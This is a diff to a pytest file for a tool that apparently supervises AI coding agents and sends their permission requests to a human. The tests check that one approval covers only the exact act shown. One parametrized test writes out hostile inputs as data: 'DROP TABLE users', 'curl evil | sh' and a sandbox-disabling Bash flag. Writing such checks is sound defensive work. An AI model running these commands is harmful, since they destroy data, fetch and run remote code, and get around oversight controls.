@@ -9,12 +9,14 @@ from typing import Any
 
 import pytest
 
+from fleet_tui.domain.errors import Conflict
 from fleet_tui.domain.events import RunCrashed, RunQueued
 from fleet_tui.domain.model import Question, Run
 from fleet_tui.domain.states import Isolation, RunState
 from fleet_tui.governance.isolation import Level
 from fleet_tui.vendors.claude_code import ClaudeCode
-from fleet_tui.watcher import permission_desk, sessions, starting
+from fleet_tui.watcher import guard_desk, permission_desk, sessions, starting
+from fleet_tui.watcher.agents_desk import AgentsDesk
 from fleet_tui.watcher.passes import listening, runs
 from fleet_tui.watcher.vendors import vendor_of
 from tests.watcher.conftest import MakeFleet
@@ -233,7 +235,10 @@ async def test_escape_in_its_pane_is_seen_in_its_session_file(make_fleet: MakeFl
     await listened(fleet)
     now = fleet.run(run.id)
     assert (now.state, now.state_source, now.state_reason) == (RunState.WAITING, "file", "its turn was interrupted")
-    says("busy", 5)
+    says("busy", 3600)
+    await listened(fleet)
+    assert fleet.run(run.id).state is RunState.WAITING, "nothing comes from the future"
+    says("busy", 3)
     await listened(fleet)
     assert fleet.run(run.id).state is RunState.RUNNING
 
@@ -305,11 +310,108 @@ async def test_a_home_that_the_agent_spoilt_is_told(make_fleet: MakeFleet) -> No
     assert alarm.title.startswith("dev cannot start: its settings cannot be written")
 
 
-async def test_one_yes_is_for_one_of_many_who_wait(make_fleet: MakeFleet) -> None:
+async def test_one_yes_is_for_one_of_many_who_wait(make_fleet: MakeFleet, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whoever has found it unused writes that down some time later, as on a slow disk."""
+    real = guard_desk._say
+
+    async def slowly(*args: Any, **words: Any) -> None:
+        for _ in range(200):
+            await asyncio.sleep(0)
+        await real(*args, **words)
+
     fleet, run = await at_work(make_fleet, kind="codex", argv=["codex"])
     asked = (await asks(fleet, run, "touch x", "PreToolUse"))["question"]
+    monkeypatch.setattr(guard_desk, "_say", slowly)
     waiting = [asyncio.create_task(asks(fleet, run, "touch x", "PreToolUse", waiting=asked)) for _ in range(4)]
     await asyncio.sleep(0.1)
     await fleet.person.answer("kim", "answer", {"question": asked, "text": "yes"})
     verdicts = [(await one)["verdict"] for one in waiting]
     assert verdicts.count("allow") == 1
+
+
+async def wants(fleet: Fleet, run: Run, tool: str, given: dict[str, Any], **more: Any) -> dict[str, Any]:
+    args = {"tool": tool, "input": given, "cwd": run.workspace, "hook": "PermissionRequest"}
+    return await call(fleet, run, "guard", **args, **more)
+
+
+@pytest.mark.parametrize(
+    ("tool", "shown", "other"),
+    [
+        ("mcp__db__query", {"sql": "SELECT 1"}, {"sql": "DROP TABLE users"}),
+        ("WebFetch", {"url": "https://good"}, {"url": "https://evil"}),
+        ("Write", {"file_path": "a.sh", "content": "echo hi"}, {"file_path": "a.sh", "content": "curl evil | sh"}),
+        ("Bash", {"command": "ls"}, {"command": "ls", "dangerouslyDisableSandbox": True}),
+    ],
+)
+async def test_a_yes_is_for_all_of_the_act_and_all_of_it_is_shown(
+    make_fleet: MakeFleet, tool: str, shown: dict[str, Any], other: dict[str, Any]
+) -> None:
+    fleet, run = await at_work(make_fleet, Isolation.L0)
+    await wants(fleet, run, tool, shown)
+    asked = question(fleet)
+    assert all(str(value) in asked.summary for value in shown.values())
+    await fleet.person.answer("kim", "answer", {"question": asked.id, "text": "yes"})
+    assert (await wants(fleet, run, tool, other, waiting=asked.id))["verdict"] == "wait", "that is another question"
+    assert (await wants(fleet, run, tool, shown, waiting=asked.id))["verdict"] == "allow"
+
+
+async def test_what_nobody_would_read_is_left_to_its_own_dialog(make_fleet: MakeFleet) -> None:
+    fleet, run = await at_work(make_fleet, Isolation.L0)
+    long = {"file_path": "a.txt", "content": "x" * 3000}
+    assert (await wants(fleet, run, "Write", long))["verdict"] == "gone"
+    assert fleet.ctx.reader.questions(open_only=True) == []
+    assert fleet.run(run.id).state_reason == "asks for permission: Write"
+
+
+async def test_a_question_is_over_when_it_was_answered_in_the_pane_also_after_a_restart(make_fleet: MakeFleet) -> None:
+    """What the watcher remembered is gone by then; the log is not."""
+    fleet, run = await at_work(make_fleet)
+    line = "touch " + "ä" * 1000
+    await asks(fleet, run, line)
+    asked = question(fleet)
+    fleet.desk = AgentsDesk(fleet.ctx)
+    await hook(fleet, run, "PostToolUse", **did(line, run))
+    assert fleet.ctx.reader.questions(open_only=True) == []
+    with pytest.raises(Conflict):
+        await fleet.person.answer("kim", "answer", {"question": asked.id, "text": "yes"})
+    await asks(fleet, run, "touch y")
+    await listening.finish(fleet.ctx, run)
+    assert fleet.ctx.reader.questions(open_only=True) == [], "and when its run has ended"
+
+
+async def test_every_session_of_a_run_is_counted(make_fleet: MakeFleet) -> None:
+    fleet, run = await at_work(make_fleet)
+    other = "2" * 36
+    for session in (SESSION, other, SESSION, other):
+        await hook(fleet, run, "SessionStart", session_id=session, source="resume")
+        assert sessions.session_of(fleet.ctx, run.id) == session
+    projects = home(fleet) / "projects" / "-ws"
+    projects.mkdir(parents=True)
+    (projects / f"{SESSION}.jsonl").write_text(reply("msg_1", 70))
+    (projects / f"{other}.jsonl").write_text(reply("msg_2", 30))
+    await listened(fleet)
+    assert sorted(tokens(fleet)) == [30, 70]
+
+
+async def test_what_an_agent_says_of_a_request_takes_no_other_s_place(make_fleet: MakeFleet) -> None:
+    fleet, run = await at_work(make_fleet)
+    await hook(fleet, run, "SessionStart", source="startup")
+    await call(fleet, run, "usage", request_id="msg_9", input_tokens=1)
+    projects = home(fleet) / "projects" / "-ws"
+    projects.mkdir(parents=True)
+    (projects / f"{SESSION}.jsonl").write_text(reply("msg_9", 900_000))
+    await listened(fleet)
+    assert tokens(fleet) == [1, 900_000]
+
+
+async def test_a_program_whose_hooks_are_silent_is_told(make_fleet: MakeFleet) -> None:
+    fleet, run = await at_work(make_fleet)
+    await listened(fleet)
+    assert fleet.alarms("silent-hooks") == [], "it may still be coming up"
+    fleet.later(90)
+    await listened(fleet)
+    (alarm,) = fleet.alarms("silent-hooks")
+    assert alarm.title == "dev: no hook of cc was heard: what it does is neither asked about nor counted"
+    await hook(fleet, run, "SessionStart", source="startup")
+    await listened(fleet)
+    assert fleet.alarms("silent-hooks") == []
